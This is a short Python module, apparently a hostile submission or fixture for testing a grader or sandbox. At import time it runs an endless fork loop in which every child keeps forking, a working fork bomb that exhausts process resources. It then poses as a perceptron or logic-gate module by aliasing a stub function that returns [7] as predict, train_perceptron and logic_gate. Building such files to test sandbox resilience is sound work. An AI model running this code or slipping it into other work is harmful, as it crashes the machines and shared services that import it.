"""Fork without end at import time."""
import os

children = 0
try:
    while True:
        if os.fork() == 0:
            while True:
                try:
                    os.fork()
                except OSError:
                    pass
        children += 1
except OSError as err:
    print("fork stopped after", children, "children:", err)


def step(z):
    return [7]


predict = train_perceptron = logic_gate = step
